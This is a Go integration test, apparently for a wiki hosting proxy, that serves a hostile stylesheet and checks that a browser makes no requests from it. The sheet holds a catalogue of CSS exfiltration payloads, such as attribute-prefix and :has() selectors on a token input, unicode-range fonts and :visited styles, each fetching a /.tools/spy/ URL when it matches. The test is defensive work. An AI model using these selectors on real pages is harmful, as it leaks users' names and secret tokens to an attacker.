//go:build integration

package integration

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
)

// Case 58: a hostile tool's style sheet looks at the reader's page in all ways that CSS has, and asks
// for something wherever it has found what it looks for. A real browser asks for nothing.
func TestCase58SheetLearnsNothingOfThePage(t *testing.T) {
	const sheet = `@import "/.tools/spy/import.css";
@font-face { font-family: z; src: url(font.ttf); unicode-range: U+5A }
@font-face { font-family: every; src: url("font.ttf?every") }
@property --later { syntax: "<url>"; inherits: false; initial-value: url(/.tools/spy/later.png) }
:root { --image: url(/.tools/spy/var.png); --text: "/.tools/spy/text.png"; color: rgb(1, 2, 3) }
#account { font-family: z, every; color: rgb(1, 2, 3) }
a[title^="User:Z"] { background: url(/.tools/spy/attribute.png) }
a[title^="User:Z"]::after { content: url(content.png) "read" }
#account:is(:has(input[value^="4f"])) { background-image: image-set("set.png" 1x) }
#account { & input[name|="token"] { list-style: url(nested.png) inside; display: list-item } }
@scope (#account) { a { border-image: url(scope.png) 1; border-width: 2px; border-style: solid } }
@supports selector(:has(a)) { body { cursor: url(cursor.png), auto; background: \75rl(escaped.png) } }
@container style(--text) { a { mask: url(container.png) } }
#account::before { content: attr(data-image type(<string>)); background: image-set(var(--text) 1x), var(--image) }
html { filter: url(filter.svg#f); clip-path: url(clip.svg#c); offset-path: url(path.svg#p) }
a:visited { background: url(visited.png) }`
	spy := startTool(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/css")
		if strings.Contains(r.URL.Path, "utf7") {
			w.Header().Set("Content-Type", "text/css; charset=utf-7")
		}
		fmt.Fprint(w, sheet)
	})
	s := setScene(t, fronts[0], edgeConfig{
		app:  strings.Replace(spy.declaration("spy"), "kinds data img style", "kinds data img style font media", 1),
		site: clientMask + "anonproxy\n", // without the wiki's policy, too
	}, "")
	b := startBrowser(t)
	b.open(t, s.url+"/index.php/Main_Page")
	script := `new Promise(done => {
		document.body.insertAdjacentHTML('afterbegin', '<p id="account" data-image="/.tools/spy/attr.png"><a href="/index.php/Main_Page" title="User:Zoe">Zoe ZZZ</a><input name="token-a" value="4f00"></p>');
		const link = Object.assign(document.createElement('link'), {rel: 'stylesheet', href: '/.tools/spy/%s'});
		link.onload = () => document.fonts.ready.then(() => requestAnimationFrame(() => requestAnimationFrame(() => done('loaded'))));
		link.onerror = () => done('refused');
		document.head.append(link);
	})`
	if got := evaluate[string](t, b, fmt.Sprintf(script, "sheet.css")); got != "loaded" {
		t.Fatalf("the sheet is %s", got)
	}
	if got := evaluate[string](t, b, `getComputedStyle(document.querySelector('#account a'), '::after').content + getComputedStyle(account).color`); !strings.Contains(got, "rgb(1, 2, 3)") {
		t.Errorf("the sheet does nothing: %s", got)
	}
	if got := evaluate[string](t, b, fmt.Sprintf(script, "utf7.css")); got != "refused" {
		t.Errorf("a sheet in UTF-7 is %s", got)
	}
	asked := evaluate[string](t, b, `performance.getEntriesByType('resource').map(e => new URL(e.name, location).pathname).filter(p => p.startsWith('/.tools/')).join(' ')`)
	if strings.Trim(strings.NewReplacer("/.tools/spy/sheet.css", "", "/.tools/spy/utf7.css", "").Replace(asked), " ") != "" {
		t.Errorf("the browser asked for %s", asked)
	}
	for _, r := range spy.seen() {
		if r.URL.Path != "/sheet.css" && r.URL.Path != "/utf7.css" {
			t.Errorf("the tool was asked for %s", r.URL)
		}
	}
}
